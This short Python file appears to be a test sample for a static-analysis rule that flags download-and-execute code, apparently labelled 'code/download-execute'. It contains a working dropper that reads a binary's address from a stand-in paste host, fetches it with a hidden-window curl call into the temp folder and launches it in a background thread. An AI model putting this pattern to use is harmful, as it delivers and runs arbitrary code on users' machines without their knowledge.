import os
import subprocess
import threading
import urllib.request

# The binary's address is read from a paste page, fetched with a hidden curl and started (defanged host).
BASE_URL = 'https://paste.example.invalid/2sv84/raw'


class Dropper:
    @staticmethod
    def resolve_address():
        return urllib.request.urlopen(urllib.request.Request(BASE_URL)).read().decode('utf-8').split('\n')[0]

    @staticmethod
    def download_binary(url):
        path = os.path.join(os.getenv('TEMP', '/tmp'), 'Bin.exe')
        subprocess.call(f'curl -o {path} {url}', shell=False, creationflags=0x08000000)
        return path

    @staticmethod
    def run_binary(path):
        # ruleid: code/download-execute
        os.system(f'start {path}')


def _main():
    Dropper.run_binary(Dropper.download_binary(Dropper.resolve_address()))


def init():
    threading.Thread(target=_main).start()
